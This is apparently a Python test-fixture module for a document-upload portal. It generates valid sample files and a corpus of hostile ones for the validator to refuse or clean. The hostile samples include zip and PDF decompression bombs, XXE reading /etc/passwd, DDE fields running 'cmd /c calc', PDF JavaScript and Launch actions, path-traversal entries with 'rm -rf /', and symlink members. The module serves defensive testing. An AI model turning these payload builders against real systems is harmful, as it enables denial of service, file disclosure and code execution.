"""Sample files for evidence tests, made in code: good documents of every accepted kind, and a
corpus of hostile ones. Nothing binary is committed."""

from __future__ import annotations

import io
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

CONTENT_TYPES_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{main}"/>'
    "</Types>"
)
OOXML = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


def image_bytes(image_format: str = "PNG", size: tuple[int, int] = (40, 30), colour: str = "red") -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, colour).save(output, format=image_format)
    return output.getvalue()


def pdf_bytes(pages: int = 1) -> bytes:
    output = io.BytesIO()
    frames = [Image.new("RGB", (200, 280), colour) for colour in ["white", "yellow", "blue"][:pages]]
    frames[0].save(output, format="PDF", save_all=True, append_images=frames[1:])
    return output.getvalue()


def ooxml_bytes(extension: str, *, extra: dict[str, str | bytes] | None = None) -> bytes:
    """A small Office document; `extra` adds parts, or replaces the main one."""
    part, main = OOXML[extension]
    parts = {part: '<?xml version="1.0"?><document>售后服务</document>', **(extra or {})}
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_XML.format(part=part, main=main))
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        for name, content in parts.items():
            archive.writestr(name, content)
    return output.getvalue()


def ofd_bytes() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", '<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>')
        archive.writestr(
            "Doc_0/Document.xml", '<?xml version="1.0"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>'
        )
    return output.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- Good files of every kind ------------------------------------------------------------------------

GOOD = {
    "销售合同-空气净化器.pdf": lambda: pdf_bytes(2),
    "验收单照片.jpg": lambda: image_bytes("JPEG"),
    "验收单照片.jpeg": lambda: image_bytes("JPEG", colour="green"),
    "发货单.png": lambda: image_bytes("PNG"),
    "截图.webp": lambda: image_bytes("WEBP"),
    "服务管理手册.docx": lambda: ooxml_bytes("docx"),
    "合格供方名录.xlsx": lambda: ooxml_bytes("xlsx"),
    "培训课件.pptx": lambda: ooxml_bytes("pptx"),
}


# --- Hostile files: each must be refused, leaving nothing behind -------------------------------------


def png_header_then_html() -> bytes:
    """Starts like a PNG (magic bytes pass), then is an HTML page with a script."""
    return b"\x89PNG\r\n\x1a\n" + b"<html><body><script>alert(document.cookie)</script></body></html>" * 20


def decompression_bomb_png(pixels_side: int = 12_000) -> bytes:
    """A tiny PNG that claims 144 million pixels: a few kilobytes that would take ~430 MB to decode."""
    width = height = pixels_side
    raw_row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(raw_row) for _ in range(height)) + compressor.flush()

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@cache
def zip_bomb_docx() -> bytes:
    """Looks like a Word document, but one entry unpacks a thousandfold (64 KB → 64 MB of zeros);
    nested or larger bombs are refused by the same directory checks."""
    output = io.BytesIO()
    part, main = OOXML["docx"]
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_XML.format(part=part, main=main))
        archive.writestr(part, "<document/>")
        info = zipfile.ZipInfo("word/media/zeros.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as entry:
            block = b"\x00" * (16 * 1024 * 1024)
            for _ in range(4):
                entry.write(block)
    return output.getvalue()


@cache
def many_entries_docx(count: int = 20_000) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_XML.format(part="word/document.xml", main="x"))
        for number in range(count):
            archive.writestr(f"word/{number}.xml", b"")
    return output.getvalue()


def traversal_docx() -> bytes:
    part, main = OOXML["docx"]
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_XML.format(part=part, main=main))
        archive.writestr(part, "<document/>")
        archive.writestr("../../../../tmp/evil.sh", "rm -rf /")
    return output.getvalue()


def broken_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nthis is not a pdf at all\n" + b"\x00" * 200


def truncated_jpeg() -> bytes:
    return image_bytes("JPEG", size=(400, 300))[:300]


def elf_binary() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 400


# name -> (content factory, words the refusal must contain)
# case: (file name, content, words of the refusal)
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "wrong-extension": ("合同.exe", lambda: pdf_bytes(), "不接受"),
    "pdf-named-jpg": ("照片.jpg", lambda: pdf_bytes(), "内容与文件名不符"),
    "png-named-pdf": ("合同.pdf", lambda: image_bytes("PNG"), "内容与文件名不符"),
    "executable-named-pdf": ("合同.pdf", elf_binary, "内容与文件名不符"),
    "docx-named-xlsx": ("表格.xlsx", lambda: ooxml_bytes("docx"), "内容与文件名不符"),
    "html-behind-png-header": ("截图.png", png_header_then_html, "无法识别为图片"),
    "truncated-jpeg": ("照片.jpg", truncated_jpeg, "无法识别为图片"),
    "decompression-bomb": ("巨图.png", decompression_bomb_png, "像素过多"),
    "zip-bomb-docx": ("手册.docx", zip_bomb_docx, "内部结构"),
    "too-many-entries-docx": ("手册.docx", many_entries_docx, "内部结构"),
    "traversal-inside-docx": ("手册.docx", traversal_docx, "内部结构"),
    "macro-docx": ("手册.docx", lambda: ooxml_bytes("docx", extra={"word/vbaProject.bin": b"macro"}), "宏"),
    "pdf-that-does-not-parse": ("合同.pdf", broken_pdf, "无法作为 PDF 打开"),
    "empty": ("空文件.pdf", lambda: b"", "是空的"),
    "path-traversal-name": ("..\\..\\..\\Windows\\合同.pdf", lambda: pdf_bytes(), "文件夹"),
    "very-long-name": ("很长的文件名" * 40 + ".pdf", lambda: pdf_bytes(), "文件名太长"),
    "control-characters-in-name": ("合同\u0007.pdf", lambda: pdf_bytes(), "控制字符"),
}


def multipart(fields: dict[str, list[str]], files: list[tuple[str, str, bytes]]) -> tuple[bytes, str]:
    """A multipart/form-data body with file names sent exactly as given (the test client would
    strip directories from them; a hostile client does not)."""
    boundary = "----certportal-test-boundary"
    parts: list[bytes] = []
    for name, values in fields.items():
        for value in values:
            parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    for field, filename, content in files:
        head = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        )
        parts.append(head.encode() + content + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


# --- Active content in documents (PDF and Office) ----------------------------------------------------


def _pdf_with(change: Callable[[pikepdf.Pdf], None], pages: int = 3) -> bytes:
    """A real PDF of `pages` pages, changed by `change` (the hostile part is on the last page where
    it can be, so that a check of the first page only would miss it)."""
    with pikepdf.open(io.BytesIO(pdf_bytes(pages))) as pdf:
        change(pdf)
        output = io.BytesIO()
        pdf.save(output)
    return output.getvalue()


def _javascript(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('x')"))
    pdf.Root.OpenAction = action
    tree = pikepdf.Dictionary(Names=pikepdf.Array(["run", action]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def _launch_on_last_page(pdf: pikepdf.Pdf) -> None:
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("C:\\Windows\\System32\\cmd.exe"))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 200, 280]), A=launch
    )
    page = pdf.pages[-1]
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="this.print()"))


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 an executable", mime_type="x/exe")
    stream = pikepdf.Stream(pdf, b"MZ\x90\x00 another executable")
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="tool.exe", EF=pikepdf.Dictionary(F=stream))
    attachment = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=pikepdf.Array([0, 0, 20, 20]), FS=spec
    )
    pdf.pages[-1].obj.Annots = pikepdf.Array([pdf.make_indirect(attachment)])


def pdf_with_javascript() -> bytes:
    return _pdf_with(_javascript)


def pdf_with_launch_action() -> bytes:
    return _pdf_with(_launch_on_last_page)


def pdf_with_embedded_files() -> bytes:
    return _pdf_with(_embedded_file)


APPENDED_HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"


def pdf_with_appended_data() -> bytes:
    return pdf_bytes(2) + APPENDED_HTML


def pdf_with_data_between_revisions() -> bytes:
    """A web page slipped in after the end, then the document's own trailer copied after it, so the
    file still ends in %%EOF."""
    content = pdf_bytes(2)
    trailer = content[content.rindex(b"startxref") :]
    return content + APPENDED_HTML + trailer


@cache
def pdf_bomb(inflated: int = 300 * 1024 * 1024) -> bytes:
    """A page whose content stream is small in the file (about 300 KB) and inflates to 300 MB."""
    compressor = zlib.compressobj(9)
    block = b" " * (16 * 1024 * 1024)
    data = b"".join(compressor.compress(block) for _ in range(inflated // len(block))) + compressor.flush()

    def change(pdf: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(pdf, data)
        stream.Filter = pikepdf.Name.FlateDecode
        pdf.pages[-1].obj.Contents = pdf.make_indirect(stream)

    return _pdf_with(change, pages=2)


@cache
def pdf_bomb_of_many_streams() -> bytes:
    """Each stream under the limit for one, five of them over the limit for all (the same 200 MB
    stream, stored five times)."""
    compressor = zlib.compressobj(9)
    block = b"\x00" * (20 * 1024 * 1024)
    data = b"".join(compressor.compress(block) for _ in range(10)) + compressor.flush()

    def form(pdf: pikepdf.Pdf) -> pikepdf.Stream:
        stream = pikepdf.Stream(pdf, data)
        stream.Filter = pikepdf.Name.FlateDecode
        stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        stream.BBox = pikepdf.Array([0, 0, 1, 1])
        return stream

    def change(pdf: pikepdf.Pdf) -> None:
        for page in pdf.pages:
            page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Fm0=form(pdf), Fm1=form(pdf)))

    return _pdf_with(change, pages=3)


def pdf_with_huge_image() -> bytes:
    """An image that declares 60,000 × 60,000 pixels in a few bytes: a renderer would allocate 10 GB."""

    def change(pdf: pikepdf.Pdf) -> None:
        image = pikepdf.Stream(pdf, zlib.compress(b"\x00" * 1024))
        image.Filter = pikepdf.Name.FlateDecode
        image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        image.Width = image.Height = 60_000
        image.ColorSpace, image.BitsPerComponent = pikepdf.Name.DeviceRGB, 8
        pdf.pages[-1].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))

    return _pdf_with(change)


RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
RELATIONSHIP = '<Relationship Id="rId{number}" Type="{type}" Target="{target}"{mode}/>'
RELATIONSHIP_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def relationships(*items: tuple[str, str, bool]) -> str:
    """A .rels part: (type, target, external)."""
    return RELS.format(
        "".join(
            RELATIONSHIP.format(
                number=number,
                type=RELATIONSHIP_TYPES + kind,
                target=target,
                mode=' TargetMode="External"' if external else "",
            )
            for number, (kind, target, external) in enumerate(items, start=1)
        )
    )


def word_document(body: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body></w:document>'


def field(*instruction_runs: str) -> str:
    """A complex field whose instruction is split over several runs, as Word may store it."""
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instruction_runs)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_with(parts: dict[str, str | bytes]) -> bytes:
    """A Word document with these parts added or replaced."""
    return ooxml_bytes("docx", extra=dict(parts))


def zip_with_symlink() -> bytes:
    content = ooxml_bytes("docx")
    output = io.BytesIO(content)
    with zipfile.ZipFile(output, "a") as archive:
        link = zipfile.ZipInfo("word/media/image1.png")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return output.getvalue()


def zip_with_duplicate_member() -> bytes:
    output = io.BytesIO(ooxml_bytes("docx"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of the duplicate name: the point
        with zipfile.ZipFile(output, "a") as archive:
            archive.writestr(OOXML["docx"][0], word_document("<w:p><w:r><w:t>the other text</w:t></w:r></w:p>"))
    return output.getvalue()


XXE = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    f"<w:document {W}><w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"
)
ENTITY_EXPANSION = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]><cp:coreProperties '
    'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties">&lol3;</cp:coreProperties>'
)
OLE_PACKAGE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56 + "\x01Ole10Native".encode("utf-16-le") + b"\x00" * 64
DDE_FORMULA_SHEET = (
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>'
)

# name -> (file name, content factory, words the refusal must contain)
HOSTILE_DOCUMENTS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "remote-template": ("手册.docx", lambda: docx_with({"word/_rels/settings.xml.rels": relationships(
        ("attachedTemplate", "http://203.0.113.9/template.dotm", True))}), "外部"),
    "picture-on-network-path": ("手册.docx", lambda: docx_with({"word/_rels/document.xml.rels": relationships(
        ("image", "\\\\fileserver\\share\\logo.png", True))}), "外部"),
    "linked-ole-object": ("手册.docx", lambda: docx_with({"word/_rels/document.xml.rels": relationships(
        ("oleObject", "file:///C:/finance/prices.xlsx", True))}), "外部"),
    "external-workbook-link": ("名录.xlsx", lambda: ooxml_bytes("xlsx", extra={
        "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
            ("externalLinkPath", "file:///\\\\server\\share\\book.xlsx", True))}), "外部"),
    "dde-field-split-over-runs": ("手册.docx", lambda: docx_with({OOXML["docx"][0]: word_document(
        field("PAGE") + field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "))}), "DDE"),
    "dde-simple-field": ("手册.docx", lambda: docx_with({OOXML["docx"][0]: word_document(
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "/></w:p>')}), "DDE"),
    "includepicture-field": ("手册.docx", lambda: docx_with({OOXML["docx"][0]: word_document(
        field(' INCLUDEPICTURE "http://203.0.113.9/track.png" \\d '))}), "DDE"),
    "dde-formula": ("名录.xlsx", lambda: ooxml_bytes("xlsx", extra={"xl/worksheets/sheet1.xml": DDE_FORMULA_SHEET}),
                    "DDE"),
    "macro-part-in-capitals": ("手册.docx", lambda: docx_with({"word/VBAPROJECT.BIN": b"macro"}), "宏"),
    "macro-content-type": ("手册.docx", lambda: docx_with({"word/macros.xml": (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')}), "宏"),
    "activex-control": ("课件.pptx", lambda: ooxml_bytes("pptx", extra={"ppt/activeX/activeX1.bin": b"\x00" * 64}),
                        "嵌入"),
    "ole-package-embedded": ("手册.docx", lambda: docx_with({"word/embeddings/oleObject1.bin": OLE_PACKAGE}), "嵌入"),
    "macro-document-embedded": ("手册.docx", lambda: docx_with({"word/embeddings/Book1.xlsm": b"PK\x03\x04"}), "嵌入"),
    "external-entity": ("手册.docx", lambda: docx_with({OOXML["docx"][0]: XXE}), "DOCTYPE"),
    "entity-expansion-in-last-part": ("手册.docx", lambda: docx_with({"docProps/core.xml": ENTITY_EXPANSION}),
                                      "DOCTYPE"),
    "symlink-member": ("手册.docx", zip_with_symlink, "内部结构"),
    "duplicate-member": ("手册.docx", zip_with_duplicate_member, "内部结构"),
    "pdf-bomb": ("扫描件.pdf", pdf_bomb, "解压"),
    "pdf-bomb-of-many-streams": ("扫描件.pdf", pdf_bomb_of_many_streams, "解压"),
    "pdf-image-of-a-billion-pixels": ("扫描件.pdf", pdf_with_huge_image, "解压"),
}  # fmt: skip

# PDFs kept, but only as a clean copy: name -> (content factory, bytes the clean copy must not hold)
SANITISED_PDFS = {
    "javascript": (pdf_with_javascript, [b"/JavaScript", b"app.alert"]),
    "launch-action-on-last-page": (pdf_with_launch_action, [b"/Launch", b"cmd.exe", b"this.print"]),
    "embedded-files": (pdf_with_embedded_files, [b"/EmbeddedFile", b"setup.exe", b"tool.exe"]),
    "data-after-the-end": (pdf_with_appended_data, [b"<script>"]),
    "data-between-revisions": (pdf_with_data_between_revisions, [b"<script>"]),
}
